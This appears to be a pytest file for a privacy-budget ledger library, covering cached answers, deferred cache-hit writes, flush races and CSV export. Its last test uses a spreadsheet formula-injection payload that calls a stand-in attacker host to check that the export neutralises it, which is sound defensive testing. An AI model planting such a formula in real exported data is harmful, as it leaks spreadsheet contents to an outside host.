"""Cache hits: an answer found once is remembered by the ledger object, and the service's
ledger (``defer_cache_hits=True``) writes the hits' history records batched, shortly after."""

from __future__ import annotations

import sqlite3
import threading
import time
from pathlib import Path

import pytest

from veil import Budget, Ledger
from veil.accounting import ledger as ledger_module

LOSS = Budget(epsilon="0.25")


def _charged(url: str, **kwargs: bool) -> Ledger:
    ledger = Ledger(url, **kwargs)
    ledger.grant("alice", "people", Budget(epsilon=1))
    ledger.reserve("alice", "people", LOSS, fingerprint="q", data_version="v").commit({"n": 7})
    return ledger


def _hit(ledger: Ledger, fingerprint: str = "q") -> object:
    return ledger.cached_answer(
        "alice", "people", fingerprint=fingerprint, data_version="v", loss=LOSS
    )


def _hits(path: Path) -> int:
    """Cache-hit rows in the file, read with sqlite3 (not through any Ledger object)."""
    with sqlite3.connect(path) as conn:
        (n,) = conn.execute("SELECT COUNT(*) FROM veil_events WHERE event = 'cache_hit'").fetchone()
    return int(n)


def test_a_remembered_answer_is_the_stored_one_and_each_hit_is_recorded(tmp_path: Path) -> None:
    path = tmp_path / "l.db"
    ledger = _charged(f"sqlite:///{path}")
    first = _hit(ledger)
    assert isinstance(first, dict)
    first["n"] = -1  # the caller's copy: mutating it changes nothing remembered
    with sqlite3.connect(path) as conn:  # the stored answer rewritten behind the object's back
        conn.execute("UPDATE veil_answers SET answer = '{\"n\": 99}'")
    # the second lookup reads no row: it returns what was stored when it was first found
    assert _hit(ledger) == {"n": 7}
    assert _hits(path) == 2
    assert [h.answer_id for h in ledger.history("alice", "people") if h.event == "cache_hit"] == [
        1,
        1,
    ]
    # a miss is never remembered: a later answer for that fingerprint is found
    assert _hit(ledger, "other") is None
    ledger.reserve("alice", "people", LOSS, fingerprint="other", data_version="v").commit({"m": 1})
    assert _hit(ledger, "other") == {"m": 1}


def test_the_memory_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ledger_module, "ANSWERS_REMEMBERED", 2)
    ledger = Ledger(f"sqlite:///{tmp_path / 'l.db'}")
    ledger.grant("alice", "people", Budget(epsilon=2))
    for fp in "abc":
        ledger.reserve("alice", "people", LOSS, fingerprint=fp, data_version="v").commit({fp: 1})
        assert _hit(ledger, fp) == {fp: 1}
    assert len(ledger._answers) == 2
    assert _hit(ledger, "a") == {"a": 1}  # forgotten, found again in the database


def test_deferred_hits_are_written_within_the_flush_interval(tmp_path: Path) -> None:
    path = tmp_path / "l.db"
    ledger = _charged(f"sqlite:///{path}", defer_cache_hits=True)
    for _ in range(5):
        assert _hit(ledger) == {"n": 7}
    deadline = time.monotonic() + 120  # a safety net only: the thread writes them soon after
    while _hits(path) < 5 and time.monotonic() < deadline:
        time.sleep(ledger_module.HIT_FLUSH_S / 2)
    assert _hits(path) == 5  # by the background thread: nothing here asked for them
    assert ledger.remaining("alice", "people") == Budget(epsilon="0.75")  # hits cost nothing
    ledger.close()


def test_history_export_and_close_write_what_is_pending(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ledger_module, "HIT_FLUSH_S", 3600.0)  # the thread never wakes
    path = tmp_path / "l.db"
    ledger = _charged(f"sqlite:///{path}", defer_cache_hits=True)
    _hit(ledger)
    assert _hits(path) == 0
    assert [r.event for r in ledger.history("alice", "people")][-1] == "cache_hit"
    _hit(ledger)
    assert ledger.export_csv().count("cache_hit") == 2
    _hit(ledger)
    assert _hits(path) == 2
    ledger.close()
    assert _hits(path) == 3


def test_a_flush_waits_for_hits_another_flush_is_still_writing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The background thread has taken the queue and is mid-write when history() flushes:
    the history must still show the hit (before, the second flush found the queue empty and
    returned at once, and history read the events before the first write committed — seen
    as a missing cache hit in tests/service/test_hot_answers.py under load)."""
    monkeypatch.setattr(ledger_module, "HIT_FLUSH_S", 3600.0)  # only the flushes below write
    path = tmp_path / "l.db"
    ledger = _charged(f"sqlite:///{path}", defer_cache_hits=True)
    writing, release = threading.Event(), threading.Event()
    real = ledger._write_hits

    def slow_write(rows: list[dict[str, object]]) -> None:  # the real write, held back
        writing.set()
        release.wait(10)
        real(rows)

    monkeypatch.setattr(ledger, "_write_hits", slow_write)
    _hit(ledger)
    first = threading.Thread(target=ledger.flush_cache_hits)
    first.start()
    assert writing.wait(10)
    seen: list[list[str]] = []
    reader = threading.Thread(
        target=lambda: seen.append([r.event for r in ledger.history("alice", "people")])
    )
    reader.start()
    reader.join(0.3)
    assert reader.is_alive()  # waiting for the write in progress, not reading without it
    release.set()
    first.join(10)
    reader.join(10)
    assert seen == [["grant", "charge", "cache_hit"]]
    assert _hits(path) == 1
    ledger.close()


def test_the_csv_export_keeps_a_query_text_from_running_as_a_formula(tmp_path: Path) -> None:
    import csv
    import io
    import json

    ledger = Ledger(f"sqlite:///{tmp_path / 'l.db'}")
    ledger.grant("alice", "people", Budget(epsilon=1))
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"x")'
    for text in (evil, "-2+3", "@SUM(1)", "SELECT COUNT(*) AS n FROM people"):
        ledger.reserve("alice", "people", LOSS, fingerprint=text, query=text).commit({"n": 1})
    rows = csv.DictReader(io.StringIO(ledger.export_csv()))
    cells = [row["query_text"] for row in rows if row["event"] == "charge"]
    assert cells == ["'" + evil, "'-2+3", "'@SUM(1)", "SELECT COUNT(*) AS n FROM people"]
    events = json.loads(ledger.export_json())["events"]
    written = [e["query_text"] for e in events if e["event"] == "charge"]
    assert written[0] == evil  # the JSON export and the ledger keep it as written
